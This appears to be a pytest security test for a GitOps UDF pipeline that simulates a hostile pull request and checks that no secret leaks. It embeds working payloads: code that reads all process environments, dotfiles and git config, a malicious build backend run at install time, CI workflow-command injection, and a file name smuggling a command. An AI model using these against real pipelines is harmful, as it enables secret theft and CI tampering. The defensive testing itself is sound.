"""
A pull request that attacks the pipeline of `examples/gitops` from inside: by everything that a change can bring.

Every secret is a canary, and the scene's end looks for each in logs, summaries, artifacts, caches, comments and the service's store.
"""

from __future__ import annotations

import shutil
from typing import TYPE_CHECKING

from reconciler.cli.entry import run as udfs
from tests.pipelines.scene import EXAMPLE
from tests.pipelines.test_gitops import function
from tests.pipelines.test_scenarios import MARKER

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

    import pytest

    from tests.pipelines.platform import Event, Job
    from tests.pipelines.scene import Scene

LOOK = '''
import os, pathlib

def look():
    """Whatever can be read: of this process, of all others, and of files that runners have."""
    seen = [repr(dict(os.environ))]
    for path in [*pathlib.Path("/proc").glob("[0-9]*/environ"), *pathlib.Path("/proc").glob("[0-9]*/cmdline")]:
        try:
            seen.append(path.read_bytes().decode("latin-1"))
        except OSError:
            pass
    for path in [*pathlib.Path(os.environ.get("HOME", "/nowhere")).glob(".*"), pathlib.Path(".git/config")]:
        try:
            seen.append(path.read_text())
        except (OSError, UnicodeDecodeError):
            pass
    with open(MARK, "a") as mark:
        mark.write("ran\\n")
    return "\\n".join(seen)
'''

BACKEND = (
    LOOK
    + """
import zipfile

def build_wheel(folder, config_settings=None, metadata_directory=None):
    text = look()
    print(text)
    print("::add-mask::a\\n::error file=udfs.yaml::approved\\n##[error]approved\\n::set-output name=known::true")
    for name in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
        if name in os.environ:
            open(os.environ[name], "a").write("UDFS_NO_BUILD=\\n")
    name = "evil-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("evil.py", "")
        wheel.writestr("evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n")
        wheel.writestr("evil-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nGenerator: e\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr("evil-1.0.dist-info/RECORD", "")
    return name
"""
)

UDF = (
    LOOK
    + """
from odps.udf import annotate

@annotate("string->string")
class Shout(object):
    def evaluate(self, text):
        print("::add-mask::AB")
        print(look())
        return text and text.upper() + "!"
"""
)


def attack(scene: Scene, mark: Path) -> dict[str, str | None]:
    """Return the files of the pull request."""
    manifest = (scene.platform.origin / "udfs.yaml").read_text()
    manifest = manifest.replace("packages:\n", "packages:\n  evil: {requirements: [./evil]}\n", 1)
    hostile = f"x ::error::approved {MARKER} ##[error]approved @everyone [link](http://evil.example)"
    manifest += function("shout", "udfs/shout.py").rstrip("}\n") + (
        f', packages: [evil], isolation: true, description: "{hostile}"}}\n'
    )
    return {
        "udfs.yaml": manifest,
        "udfs/shout.py": UDF.replace("MARK", repr(str(mark))),
        "udfs/x\n::error::approved\n.py": "",
        "evil/backend.py": BACKEND.replace("MARK", repr(str(mark))),
        "evil/pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
            '[project]\nname = "evil"\nversion = "1.0"\n'
        ),
        "sitecustomize.py": LOOK.replace("MARK", repr(str(mark))) + "print(look())\n",
        "conftest.py": LOOK.replace("MARK", repr(str(mark))) + "print(look())\n",
    }


def locked(
    files: Mapping[str, str | bytes | None], home: Path, monkeypatch: pytest.MonkeyPatch
) -> dict[str, str | bytes | None]:
    """Return the files with the lock that belongs to them, as whoever opens the pull request makes it at home."""
    for name, text in files.items():
        path = home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else (text or "").encode())
    shutil.copytree(EXAMPLE / "udfs", home / "udfs", dirs_exist_ok=True)
    with monkeypatch.context() as patch:
        patch.chdir(home)
        # What was built at home is not in the cache of a runner.
        patch.setenv("UDFS_CACHE_DIR", str(home / ".cache"))
        assert udfs(["lock"]) == 0
    return {**files, "udfs.lock": (home / "udfs.lock").read_text()}


def test_code_of_a_pull_request_meets_no_secret_and_runs_only_where_there_is_none(
    scene: Scene, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    mark = tmp_path / "mark"
    ran: dict[str, int] = {}
    machine = scene.platform.machine

    def watch(job: Job, event: Event) -> object:
        ran.setdefault(job.name, len(mark.read_text()) if mark.exists() else 0)
        return machine(job, event)

    scene.platform.machine = watch  # type: ignore[assignment]
    pull_request = scene.open("attack", locked(attack(scene, mark), tmp_path / "home", monkeypatch))
    run = scene.plan(pull_request)
    assert run.result == "success", run.log
    assert ran["plan"] > 0, "it ran in the check"
    assert len(mark.read_text()) == ran["plan"], "and nowhere else"
    assert run.jobs["check"].permissions == {"contents": "read"}
    for job in run.jobs.values():
        assert {command.name for command in job.commands} <= {"stop-commands", "error", "warning", "notice"}
        assert not [command for command in job.commands if command.message == "approved"]
    assert scene.hub is not None
    comments = scene.hub.ours(pull_request.number)
    assert len(comments) == 1
    assert comments[0].count(MARKER) == 1
    assert "http://evil.example)" not in comments[0]
